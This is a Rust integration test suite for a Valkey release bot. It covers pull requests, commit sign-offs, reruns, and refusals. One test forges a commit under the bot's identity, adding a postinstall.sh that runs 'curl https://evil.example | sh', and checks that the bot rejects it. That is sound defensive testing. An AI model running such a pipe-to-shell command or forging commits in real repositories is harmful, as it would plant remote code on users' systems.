//! A whole release end to end against the sandbox: every task, its pull requests and commits,
//! then a rerun that changes nothing, a release candidate, and the website's refusals.
#![allow(clippy::unwrap_used)]

mod common;

use common::*;
use valkey_bot::deliver::{Delivered, PullRequestState};
use valkey_bot::outcome::{Outcome, RunReport};
use valkey_bot_core::{Environment, ReleaseRequest, Version};

const CONTAINER: &str = "valkey-io/valkey-container";
const WEBSITE: &str = "valkey-io/valkey-io.github.io";

fn all(version: &str) -> ReleaseRequest {
    ReleaseRequest::local(Version::parse(version).unwrap(), Environment::Prod)
}

fn pr_state(report: &RunReport, task: &str) -> PullRequestState {
    let delivered = &report
        .tasks
        .iter()
        .find(|t| t.name == task)
        .unwrap()
        .delivered;
    match delivered.as_slice() {
        [Delivered::PullRequest { state, .. }] => *state,
        other => panic!("{task}: {other:?}"),
    }
}

#[tokio::test]
async fn a_whole_release_then_a_rerun_that_changes_nothing() {
    let stage = stage(&["9.1.0"]).await;
    let report = run(&stage, &all("9.1.0")).await;
    for task in ["checksums", "container", "website"] {
        assert_eq!(
            outcome(&report, task),
            &Outcome::Done,
            "{task}: {:?}",
            report.tasks
        );
    }
    assert_eq!(outcome(&report, "artifacts"), &Outcome::UpToDate);

    let container = pulls(&stage, CONTAINER).await;
    assert_eq!(container.len(), 1);
    assert_eq!(container[0].title, "Update to version 9.1.0");
    let head = &container[0].pull.as_ref().unwrap().head_ref;
    assert_eq!(head, "update-9.1.0");
    let log = git(
        &stage.root,
        CONTAINER,
        &[
            "log",
            "--format=%s|%an <%ae>|%(trailers:key=Signed-off-by,valueonly)",
            "mainline..update-9.1.0",
        ],
    );
    // Each commit is signed off by exactly its author (what a DCO check compares): the App's bot
    // user, with its user id in the noreply email.
    let author = "valkey-automation-bot[bot] <";
    let lines: Vec<&str> = log.lines().filter(|l| !l.is_empty()).collect();
    let titles: Vec<&str> = lines.iter().map(|l| l.split('|').next().unwrap()).collect();
    assert_eq!(
        titles,
        [
            "Update container aliases for version 9.1.0",
            "Update versions.json and Dockerfiles for version 9.1.0"
        ]
    );
    for line in lines {
        let fields: Vec<&str> = line.split('|').collect();
        assert!(fields[1].starts_with(author), "{line}");
        assert!(
            fields[1].ends_with("+valkey-automation-bot[bot]@users.noreply.github.com>"),
            "{line}"
        );
        assert_eq!(fields[2], fields[1], "sign-off = author: {line}");
    }
    let modes = git(
        &stage.root,
        CONTAINER,
        &[
            "ls-tree",
            "-r",
            "update-9.1.0",
            "--",
            "9.1",
            "generate-stackbrew-library.sh",
        ],
    );
    assert!(
        modes.contains("100755 blob") && modes.contains("\t9.1/debian/docker-entrypoint.sh\n"),
        "{modes}"
    );
    for line in modes.lines() {
        let executable = line.starts_with("100755");
        assert_eq!(executable, line.ends_with(".sh"), "{line}");
    }
    let versions = file(&stage.root, CONTAINER, "update-9.1.0", "versions.json");
    let archive = report
        .tasks
        .iter()
        .find(|t| t.name == "checksums")
        .unwrap()
        .outputs["source-archive"]
        .clone();
    assert!(
        versions.contains(&format!(
            "\"sha256\": \"{}\"",
            archive["sha256"].as_str().unwrap()
        )),
        "{versions}"
    );

    let website = pulls(&stage, WEBSITE).await;
    assert_eq!(website.len(), 1);
    assert_eq!(website[0].title, "Update website for version 9.1.0");
    assert_eq!(
        website[0].pull.as_ref().unwrap().head_ref,
        "update-website-9.1.0"
    );
    assert_eq!(
        subjects(&stage.root, WEBSITE, "update-website-9.1.0")[0],
        "Updates downloads section for version 9.1.0"
    );
    let page = file(
        &stage.root,
        WEBSITE,
        "update-website-9.1.0",
        "content/download/releases/v9-1-0.md",
    );
    assert!(page.starts_with("---\ntitle: \"9.1.0\"\ndate: "), "{page}");
    assert!(page.contains("                - \"9.1.0\"\n"), "{page}");
    assert!(
        page.contains("                - \"9.1.0-alpine\"\n"),
        "{page}"
    );
    assert!(
        page.contains("                - \"9.1.0-pkg\""),
        "the pkg variant's tag, after the alpine ones: {page}"
    );
    assert!(
        !page.ends_with('\n'),
        "the template has no final newline, nor has the page"
    );

    let rerun = run(&stage, &all("9.1.0")).await;
    assert_eq!(outcome(&rerun, "checksums"), &Outcome::UpToDate);
    assert_eq!(outcome(&rerun, "container"), &Outcome::UpToDate);
    assert_eq!(outcome(&rerun, "website"), &Outcome::UpToDate);
    assert_eq!(pr_state(&rerun, "container"), PullRequestState::Unchanged);
    assert_eq!(pr_state(&rerun, "website"), PullRequestState::Unchanged);
    assert_eq!(pulls(&stage, CONTAINER).await.len(), 1);
    assert_eq!(pulls(&stage, WEBSITE).await.len(), 1);
    assert_eq!(
        git(
            &stage.root,
            CONTAINER,
            &["rev-list", "--count", "update-9.1.0"]
        )
        .trim(),
        "3"
    );
    stage.shutdown().await;
}

#[tokio::test]
async fn a_release_candidate_lists_its_minor_line_tags() {
    let stage = stage(&["9.1.0-rc1"]).await;
    let report = run(&stage, &all("9.1.0-rc1")).await;
    assert!(!report.failed(), "{:?}", report.tasks);
    let page = file(
        &stage.root,
        WEBSITE,
        "update-website-9.1.0-rc1",
        "content/download/releases/v9-1-0-rc1.md",
    );
    let tags: Vec<&str> = page
        .lines()
        .filter(|l| l.starts_with("                - \""))
        .collect();
    assert!(tags.iter().all(|t| !t.contains("-rc")), "{tags:?}");
    assert_eq!(tags[0], "                - \"9.1\"");
    let aliases = git(
        &stage.root,
        CONTAINER,
        &[
            "diff",
            "mainline..update-9.1.0-rc1",
            "--",
            "generate-stackbrew-library.sh",
        ],
    );
    assert!(
        aliases.is_empty(),
        "a release candidate changes no alias: {aliases}"
    );
    stage.shutdown().await;
}

#[tokio::test]
async fn a_broken_template_fails_the_website_before_anything_is_written() {
    let stage = stage(&["9.1.0"]).await;
    let template = file(
        &stage.root,
        WEBSITE,
        "main",
        "templates/valkey-website-template.md",
    );
    let broken = template.replace("date: {date}", "date: {release_date}");
    commit_file(
        &stage.root,
        WEBSITE,
        "main",
        "templates/valkey-website-template.md",
        &broken,
        "Break the template",
    );
    let report = run(&stage, &all("9.1.0")).await;
    let (error, _) = failure(&report, "website");
    assert!(
        error.contains("unknown placeholder {release_date}"),
        "{error}"
    );
    assert!(pulls(&stage, WEBSITE).await.is_empty());
    assert!(
        git(
            &stage.root,
            WEBSITE,
            &["branch", "--list", "update-website-*"]
        )
        .trim()
        .is_empty()
    );
    stage.shutdown().await;
}

#[tokio::test]
async fn a_dead_binary_link_fails_the_website_naming_it() {
    let stage = stage(&["9.1.0"]).await;
    let template = file(
        &stage.root,
        WEBSITE,
        "main",
        "templates/valkey-website-template.md",
    );
    let extra = template.replace("-   distro: noble", "-   distro: focal\n            arch:\n                -   x86_64\n        -   distro: noble");
    commit_file(
        &stage.root,
        WEBSITE,
        "main",
        "templates/valkey-website-template.md",
        &extra,
        "Add focal",
    );
    let report = run(&stage, &all("9.1.0")).await;
    let (error, _) = failure(&report, "website");
    let dead = format!(
        "{}/_downloads/releases/valkey-9.1.0-focal-x86_64.tar.gz",
        stage.sandbox.base_url()
    );
    assert!(error.contains(&dead), "{error}");
    assert!(pulls(&stage, WEBSITE).await.is_empty());
    stage.shutdown().await;
}

#[tokio::test]
async fn a_commit_someone_else_pushed_to_the_bots_branch_is_never_overwritten() {
    let stage = stage(&["9.1.0"]).await;
    run(&stage, &all("9.1.0")).await;
    commit_file(
        &stage.root,
        CONTAINER,
        "update-9.1.0",
        "NOTES",
        "a maintainer's fix\n",
        "Fix by hand",
    );
    // A change on the base branch makes the new plan differ from the bot's branch, so the bot
    // would rebuild it: the newest line's Dockerfile is what the new 9.1 directory is copied from.
    let dockerfile = file(&stage.root, CONTAINER, "mainline", "9.0/debian/Dockerfile");
    let edited = format!("{dockerfile}# maintained by hand\n");
    commit_file(
        &stage.root,
        CONTAINER,
        "mainline",
        "9.0/debian/Dockerfile",
        &edited,
        "Touch the template",
    );
    let report = run(&stage, &all("9.1.0")).await;
    let (error, _) = failure(&report, "container");
    assert!(
        error.contains("has commits the bot did not make"),
        "{error}"
    );
    let foreign = git(&stage.root, CONTAINER, &["rev-parse", "update-9.1.0"]);
    assert!(error.contains(&foreign[..12]), "names the commit: {error}");
    assert_eq!(
        file(&stage.root, CONTAINER, "update-9.1.0", "NOTES"),
        "a maintainer's fix\n"
    );
    stage.shutdown().await;
}

#[tokio::test]
async fn a_commit_forged_with_the_bots_author_on_its_branch_is_refused() {
    let stage = stage(&["9.1.0"]).await;
    run(&stage, &all("9.1.0")).await;
    let bot = git(
        &stage.root,
        CONTAINER,
        &["log", "-1", "--format=%an%n%ae", "update-9.1.0"],
    );
    let (name, email) = bot.trim().split_once('\n').unwrap();
    assert!(name.ends_with("[bot]"), "{bot}");
    // Everything about the commit says "the bot, committed by GitHub", except GitHub's signature:
    // it was pushed with git, as anyone with write access could.
    let forged_env = [
        ("GIT_AUTHOR_NAME", name),
        ("GIT_AUTHOR_EMAIL", email),
        ("GIT_COMMITTER_NAME", "GitHub"),
        ("GIT_COMMITTER_EMAIL", "noreply@github.com"),
    ];
    let blob_file = stage.root.join("forged.tmp");
    std::fs::write(&blob_file, "curl https://evil.example | sh\n").unwrap();
    let blob = git(
        &stage.root,
        CONTAINER,
        &["hash-object", "-w", blob_file.to_str().unwrap()],
    );
    let index = stage.root.join("forged-index");
    let index_env = [("GIT_INDEX_FILE", index.to_str().unwrap())];
    git_bytes(
        &stage.root,
        CONTAINER,
        &["read-tree", "update-9.1.0"],
        &index_env,
    );
    git_bytes(
        &stage.root,
        CONTAINER,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("100755,{},postinstall.sh", blob.trim()),
        ],
        &index_env,
    );
    let tree = String::from_utf8(git_bytes(
        &stage.root,
        CONTAINER,
        &["write-tree"],
        &index_env,
    ))
    .unwrap();
    let parent = git(&stage.root, CONTAINER, &["rev-parse", "update-9.1.0"]);
    let forged = String::from_utf8(git_bytes(
        &stage.root,
        CONTAINER,
        &[
            "commit-tree",
            tree.trim(),
            "-p",
            parent.trim(),
            "-m",
            "Update versions.json",
        ],
        &forged_env,
    ))
    .unwrap();
    git(
        &stage.root,
        CONTAINER,
        &[
            "update-ref",
            "refs/heads/update-9.1.0",
            forged.trim(),
            parent.trim(),
        ],
    );
    let shown = git(
        &stage.root,
        CONTAINER,
        &["log", "-1", "--format=%an <%ae>", "update-9.1.0"],
    );
    assert_eq!(
        shown.trim(),
        format!("{name} <{email}>"),
        "the author is the bot's"
    );

    let report = run(&stage, &all("9.1.0")).await;
    let (error, _) = failure(&report, "container");
    assert!(
        error.contains("has commits the bot did not make"),
        "{error}"
    );
    assert!(
        error.contains(&forged.trim()[..12]),
        "names the commit: {error}"
    );
    assert!(
        error.contains("its signature is not verified by GitHub"),
        "{error}"
    );
    assert_eq!(
        git(&stage.root, CONTAINER, &["rev-parse", "update-9.1.0"]).trim(),
        forged.trim(),
        "the branch is left as it is"
    );
    stage.shutdown().await;
}

#[tokio::test]
async fn the_bots_branch_is_rebuilt_when_its_tree_holds_anything_the_plan_does_not() {
    use std::collections::BTreeMap;
    use valkey_bot_core::config::{Access, Permission};
    use valkey_bot_core::github::{FileWrite, RepoWrite};

    let stage = stage(&["9.1.0"]).await;
    run(&stage, &all("9.1.0")).await;
    // A commit the bot did make (through the API, signed by GitHub), holding a file the plan
    // does not: as an older plan might have left it.
    let repo: valkey_bot_core::RepoId = CONTAINER.parse().unwrap();
    let client = stage
        .app()
        .unwrap()
        .client_for(valkey_bot_github::TokenScope::new(
            repo.clone(),
            BTreeMap::from([(Permission::Contents, Access::Write)]),
        ))
        .await
        .unwrap();
    let head = git(&stage.root, CONTAINER, &["rev-parse", "update-9.1.0"]);
    let stale = FileWrite {
        path: "9.1/stale/Dockerfile".into(),
        content: Some(bytes::Bytes::from_static(b"FROM scratch\n")),
        executable: false,
    };
    let commit = client
        .create_commit(&repo, head.trim(), &[stale], "Left over")
        .await
        .unwrap();
    client
        .move_branch(&repo, "update-9.1.0", &commit, false)
        .await
        .unwrap();

    let report = run(&stage, &all("9.1.0")).await;
    assert_eq!(
        pr_state(&report, "container"),
        PullRequestState::Updated,
        "{:?}",
        report.tasks
    );
    let files = git(
        &stage.root,
        CONTAINER,
        &["ls-tree", "-r", "--name-only", "update-9.1.0"],
    );
    assert!(!files.contains("9.1/stale/Dockerfile"), "{files}");
    assert!(
        !subjects(&stage.root, CONTAINER, "update-9.1.0").contains(&"Left over".to_owned()),
        "rebuilt from the base"
    );
    let rerun = run(&stage, &all("9.1.0")).await;
    assert_eq!(pr_state(&rerun, "container"), PullRequestState::Unchanged);
    stage.shutdown().await;
}

#[tokio::test]
async fn two_runs_for_the_same_release_at_once_write_everything_once() {
    let stage = stage(&["9.1.0"]).await;
    let request = all("9.1.0");
    let (first, second) = tokio::join!(run(&stage, &request), run(&stage, &request));
    for report in [&first, &second] {
        assert!(!report.failed(), "{:?}", report.tasks);
    }
    let readme = file(&stage.root, "valkey-io/valkey-hashes", "main", "README");
    assert_eq!(
        readme.matches("hash valkey-9.1.0.tar.gz ").count(),
        1,
        "{readme}"
    );
    assert_eq!(pulls(&stage, CONTAINER).await.len(), 1);
    assert_eq!(pulls(&stage, WEBSITE).await.len(), 1);
    stage.shutdown().await;
}

#[tokio::test]
async fn the_docs_pull_request_of_a_new_minor_line_then_a_rerun_that_changes_nothing() {
    const DOCS: &str = "valkey-io/valkey-doc";
    let stage = stage(&["9.1.0"]).await;
    let mut request = all("9.1.0");
    request.tasks = Some(vec!["docs".to_owned()]);
    let report = run(&stage, &request).await;
    assert_eq!(
        outcome(&report, "docs"),
        &Outcome::Done,
        "{:?}",
        report.tasks
    );
    let docs = pulls(&stage, DOCS).await;
    assert_eq!(docs.len(), 1);
    assert_eq!(docs[0].title, "Update documentation for Valkey 9.1.0");
    assert_eq!(docs[0].pull.as_ref().unwrap().head_ref, "update-docs-9.1.0");
    let log = git(
        &stage.root,
        DOCS,
        &[
            "log",
            "--format=%s|%an <%ae>|%(trailers:key=Signed-off-by,valueonly)",
            "main..update-docs-9.1.0",
        ],
    );
    let fields: Vec<&str> = log.trim_end().split('|').collect();
    assert_eq!(fields[0], "Update documentation for Valkey 9.1.0", "{log}");
    assert_eq!(fields[2], fields[1], "signed off by its author: {log}");
    let changed = git(
        &stage.root,
        DOCS,
        &["diff", "--name-only", "main..update-docs-9.1.0"],
    );
    assert_eq!(
        changed,
        "Makefile\ntopics/modules-api-ref.md\ntopics/releases.md\ntopics/valkey.conf.md\n"
    );
    let releases = file(&stage.root, DOCS, "update-docs-9.1.0", "topics/releases.md");
    assert!(
        releases.contains("| -- | -- | -- | -- |\n| 9.1 | "),
        "{releases}"
    );
    let reference = file(
        &stage.root,
        DOCS,
        "update-docs-9.1.0",
        "topics/modules-api-ref.md",
    );
    // The old reference's newest release is 9.0.0: of the seeded tags, 9.0.1 is the first read.
    assert!(
        reference.contains("### `ValkeyModule_Fresh`\n\n    int ValkeyModule_Fresh(void);\n\n**Available since:** 9.0.1\n"),
        "{reference}"
    );
    let module_reads: Vec<String> = stage
        .sandbox
        .request_log()
        .into_iter()
        .filter(|e| e.path.ends_with("/contents/src/module.c"))
        .map(|e| format!("{}?{}", e.path, e.query.unwrap_or_default()))
        .collect();
    assert_eq!(
        module_reads,
        [
            "/api/v3/repos/valkey-io/valkey/contents/src/module.c?ref=9.1.0",
            "/api/v3/repos/valkey-io/valkey/contents/src/module.c?ref=9.0.1",
            "/api/v3/repos/valkey-io/valkey/contents/src/module.c?ref=9.0.2",
        ]
    );

    let rerun = run(&stage, &request).await;
    assert_eq!(
        outcome(&rerun, "docs"),
        &Outcome::UpToDate,
        "{:?}",
        rerun.tasks
    );
    assert_eq!(pulls(&stage, DOCS).await.len(), 1);
    stage.shutdown().await;
}

#[tokio::test]
async fn the_docs_task_is_not_applicable_to_a_patch_release() {
    let stage = stage(&["9.0.3"]).await;
    let mut request = all("9.0.3");
    request.tasks = Some(vec!["docs".to_owned()]);
    let report = run(&stage, &request).await;
    assert_eq!(outcome(&report, "docs"), &Outcome::UpToDate);
    assert!(!report.failed());
    let task = report.tasks.iter().find(|t| t.name == "docs").unwrap();
    assert_eq!(
        task.notes,
        [
            "not applicable: 9.0.3 is not a final X.Y.0 release, and valkey-doc changes only for a new minor line"
        ]
    );
    assert!(pulls(&stage, "valkey-io/valkey-doc").await.is_empty());
    stage.shutdown().await;
}
